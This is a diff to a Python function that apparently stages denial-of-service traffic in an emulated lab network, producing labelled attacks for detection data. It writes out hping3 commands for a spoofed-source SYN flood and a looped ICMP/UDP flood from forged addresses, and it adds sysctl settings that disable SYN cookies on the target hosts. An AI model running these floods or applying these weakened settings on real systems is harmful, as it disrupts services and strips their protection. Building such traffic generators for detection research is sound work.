@@ -41,7 +41,7 @@ def scans(stage, path):
 
 
 def floods(stage, path):
-    """A SYN flood from spoofed sources and an ICMP or UDP flood from few machines, after ordinary traffic."""
+    """A SYN flood from spoofed sources, and packets of ICMP or UDP from few machines, half a megabit a second, after ordinary traffic."""
     net, pick = stage.net, stage.pick
     stage.open_office(1, favour=20)
     stage.outsiders('flooder', 2, pick('203.0.113.', '198.51.100.'))
@@ -49,14 +49,17 @@ def floods(stage, path):
         network.sysctl(f'flooder{number}', 'net.ipv4.conf.all.rp_filter=0')
     web, files, port = net.address(80), net.address(22), pick(443, 22)
     victim = pick(web, files)
+    for host in 'web', 'files':  # small queues, and few complaints
+        network.sysctl(host, 'net.ipv4.tcp_syncookies=0', 'net.ipv4.tcp_max_syn_backlog=64', 'net.ipv4.icmp_echo_ignore_all=1', 'net.ipv4.icmp_ratelimit=1000',
+                       'net.ipv4.icmp_ratemask=6168')
     stage.begin(path)
     time.sleep(30)
-    stage.attack('flooder0', ('timeout', '-s', 'INT', pick('25', '35'), 'hping3', '-q', '-S', '-p', str(port), '--rand-source', '-i', pick('u2500', 'u4000'), victim),
+    stage.attack('flooder0', ('timeout', '-s', 'INT', pick('20', '28'), 'hping3', '-q', '-S', '-p', str(port), '--rand-source', '-i', pick('u2500', 'u4000'), victim),
                  'flood', 'SYN', 6, '0.0.0.0/0', victim, ports=[port], spoofed=True, tool='hping3')
     time.sleep(10)
     other = pick(files, web)
     bots = ' '.join(f'192.{number}.9.{number}' for number in range(30, pick(60, 54)))
     mode, protocol = pick(('--icmp -d 1000', 1), ('--udp -p 4500 -d 1200', 17))
-    script = f'for bot in {bots}; do timeout -s INT {pick(60, 80)} hping3 -q {mode} -i {pick("u250000", "u300000")} -a $bot {other} & done; wait'
-    stage.attack('flooder1', ('bash', '-c', script), 'flood', pick('ICMP', 'UDP'), protocol, '192.0.0.0/8', other, tool='hping3')
+    script = f'for bot in {bots}; do timeout -s INT {pick(30, 40)} hping3 -q {mode} -i {pick("u500000", "u700000")} -a $bot {other} & done; wait'
+    stage.attack('flooder1', ('bash', '-c', script), 'flood', pick('ICMP', 'UDP'), protocol, '192.0.0.0/8', other, tool='hping3', small=True)
     time.sleep(5)
